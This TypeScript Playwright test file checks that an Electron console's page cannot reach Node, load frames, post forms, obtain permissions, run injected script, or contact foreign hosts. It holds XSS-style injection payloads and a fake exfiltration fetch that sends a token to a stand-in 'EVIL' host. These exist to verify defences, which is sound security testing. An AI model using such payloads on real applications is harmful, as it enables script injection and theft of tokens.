import { type Listening, listen } from '../../../scripts/site-server/listen.ts';
import { describeDesktop, expect, signIn, test } from './desktopTest.ts';
import { EVIL, inject, inOwnTask, REFUSED, watchViolations } from './pageAttacks.ts';

/**
 * Electron's security checklist, each point tried as an attacker who can already run script in the page would try it, with a
 * positive control beside it: the same means, used as intended, works. Here: what the page itself may do.
 */
describeDesktop('the security checklist, inside the page', () => {
  test('gives the page verbs and nothing of Node or Electron; frames do not load, and have no bridge', async ({
    desktop,
    backend,
  }) => {
    const app = await desktop.launch();
    app.console.expect(REFUSED);
    const { page } = app;
    const found = await page.evaluate(() => {
      const names = ['require', 'process', 'Buffer', 'module', 'global', 'ipcRenderer', 'electron', '__standInInvoke'];
      try {
        Reflect.set(window.desktop, 'start', () => 'replaced');
        Reflect.set(window, 'desktop', {});
      } catch {
        // A frozen bridge may throw as well.
      }
      return {
        leaked: names.filter((name) => name in window),
        kinds: Object.values(window.desktop).map((verb) => typeof verb),
      };
    });
    expect(found.leaked).toEqual([]);
    expect(new Set(found.kinds)).toEqual(new Set(['function']));
    // Control: the bridge still is the real one.
    expect(await page.evaluate(() => window.desktop.start())).toMatchObject({ ok: true });

    const violations = await watchViolations(page);
    await inject(page, { tag: 'iframe', attributes: { src: `${backend.origin}/robots.txt` } });
    await inject(page, { tag: 'iframe', attributes: { src: '/' } });
    await expect.poll(violations).toEqual(['frame-src', 'frame-src']);
    await inject(page, { tag: 'iframe', attributes: { srcdoc: '<p>inside' } });
    expect(await page.evaluate(() => window.frames.length)).toBeGreaterThan(0);
    const bridges = await page.evaluate(() =>
      Array.from({ length: window.frames.length }, (_, index) => {
        try {
          return typeof Reflect.get(window.frames[index] as object, 'desktop');
        } catch {
          // A frame of another origin cannot even be looked at.
          return 'undefined';
        }
      }),
    );
    expect(new Set(bridges)).toEqual(new Set(['undefined']));
  });

  test('no form posts anywhere, and the page cannot lift the lock without the password', async ({
    desktop,
    backend,
  }) => {
    const app = await desktop.launch();
    app.console.expect(REFUSED);
    // Control: the console's own form works, without posting.
    await signIn(app);
    await app.power('lock-screen');
    await expect(app.page.getByRole('button', { name: 'Unlock' })).toBeVisible();
    const attempts = await app.page.evaluate(async () => [
      await window.desktop.releaseLock(),
      await window.desktop.removeFromStore('session', 'console-lock'),
      await window.desktop.writeStore('session', 'console-lock', ''),
    ]);
    expect(attempts).toEqual(Array(3).fill({ ok: false, code: 'forbidden' }));
    await app.page.reload();
    await expect(app.page.getByRole('button', { name: 'Unlock' })).toBeVisible();
    // Control: the password lifts it (everyday.spec.ts).

    // Last, because the refused form leaves a navigation that never ends, and Playwright waits for it.
    const violations = await watchViolations(app.page);
    await app.page.evaluate((action) => {
      const form = Object.assign(document.createElement('form'), { action, method: 'post' });
      document.body.append(form);
      form.submit();
    }, `${backend.origin}/anything`);
    await expect.poll(violations).toContain('form-action');
  });

  test('no permission is granted but to put text on the clipboard', async ({ desktop, browser, backend }) => {
    const app = await desktop.launch();
    app.console.expect(REFUSED);
    const asked = () =>
      app.page.evaluate(async () => {
        const { geolocation, mediaDevices, clipboard } = navigator;
        const outcomeOf = (asked: Promise<unknown>) => asked.then(() => 'granted').catch(() => 'refused');
        return {
          geolocation: await outcomeOf(new Promise((done, fail) => geolocation.getCurrentPosition(done, fail))),
          notifications: await Notification.requestPermission(),
          camera: await outcomeOf(mediaDevices.getUserMedia({ video: true })),
          clipboard: await outcomeOf(clipboard.readText()),
        };
      });
    expect(await asked()).toEqual({
      geolocation: 'refused',
      notifications: 'denied',
      camera: 'refused',
      clipboard: 'refused',
    });
    // Control: this Chromium gives a position to a page that was granted one.
    const context = await browser.newContext({
      geolocation: { latitude: 45.4, longitude: -75.7 },
      permissions: ['geolocation'],
    });
    const page = await context.newPage();
    await page.goto(`${backend.origin}/robots.txt`);
    const position = page.evaluate(
      () =>
        new Promise((resolve, reject) =>
          navigator.geolocation.getCurrentPosition(({ coords }) => resolve(coords.latitude), reject),
        ),
    );
    expect(await position).toBe(45.4);
    await context.close();
  });

  test('no script runs that is not a file of the console', async ({ desktop, backend }) => {
    const app = await desktop.launch();
    app.console.expect(REFUSED);
    const { page } = app;
    const violations = await watchViolations(page);
    const ran = () => page.evaluate(() => 'pwned' in window);

    await inject(page, { tag: 'script', text: 'window.pwned = 1' });
    await inject(page, { tag: 'img', attributes: { src: '/none.png', onerror: 'window.pwned = 1' } });
    await page.evaluate(() => {
      const link = Object.assign(document.createElement('a'), {
        href: 'javascript:window.pwned = 1',
        textContent: 'x',
      });
      document.body.append(link);
      link.click();
    });
    for (const kind of ['eval', 'function', 'timer'] as const) expect(await inOwnTask(page, kind)).toBe('refused');
    // A script of the very host that the page may call, one of a foreign host, and one in the address itself.
    for (const src of [`${backend.origin}/forms/embed/v2.js`, `${EVIL}x.js`, 'data:text/javascript,window.pwned=1'])
      expect(await inject(page, { tag: 'script', attributes: { src } }), src).toBe('refused');
    expect(await ran()).toBe(false);
    const seen = await violations();
    for (const directive of ['script-src-elem', 'script-src-attr', 'script-src']) expect(seen).toContain(directive);

    // Controls: the script of the console may be loaded, which is all that is asked of it: run twice, it would mount a second console. That
    // other script exists and runs where it is allowed to.
    const own = await page.evaluate(() => document.querySelector('script[type=module]')?.getAttribute('src') ?? '');
    const preload = (href: string) => inject(page, { tag: 'link', attributes: { rel: 'modulepreload', href } });
    expect(await preload(`${own}?again`)).toBe('loaded');
    expect(await preload(`${EVIL}x.js`)).toBe('refused');
    expect(await (await fetch(`${backend.origin}/forms/embed/v2.js`)).text()).toContain('hbspt');
  });

  test('nothing is loaded over http or from a foreign host; the backend answers', async ({ desktop, backend }) => {
    const app = await desktop.launch();
    app.console.expect(REFUSED);
    const { page } = app;
    const violations = await watchViolations(page);
    const foreign = await startServer();
    const call = (url: string) => page.evaluate((address) => fetch(address).then(() => 'answered', String), url);
    const picture = { tag: 'img', attributes: { src: `${backend.origin}/apple-touch-icon.png` } };
    const sheet = { tag: 'link', attributes: { rel: 'stylesheet', href: `${foreign.origin}/x.css` } };
    for (const part of [picture, sheet]) expect(await inject(page, part), part.tag).toBe('refused');
    expect(await call(foreign.origin)).toBe('TypeError: Failed to fetch');
    expect(await call(`${EVIL}collect?token=x`)).toBe('TypeError: Failed to fetch');
    await page.evaluate((url) => void navigator.sendBeacon(url, 'x'), foreign.origin);
    expect(foreign.asked).toEqual([]);
    expect(await violations()).toEqual(expect.arrayContaining(['img-src', 'style-src-elem', 'connect-src']));
    // Controls: the picture is there, the foreign server answers others, and the page reaches its backend.
    expect((await fetch(picture.attributes.src)).headers.get('content-type')).toContain('image/png');
    expect((await fetch(foreign.origin)).status).toBe(200);
    expect(await call(`${backend.origin}/auth/v1/health`)).toBe('answered');
    await foreign.close();
  });
});

async function startServer(): Promise<Listening & { asked: string[] }> {
  const asked: string[] = [];
  const server = await listen((request, response) => {
    if (request.headers['user-agent']?.includes('Chrome')) asked.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('x');
  });
  return { ...server, asked };
}
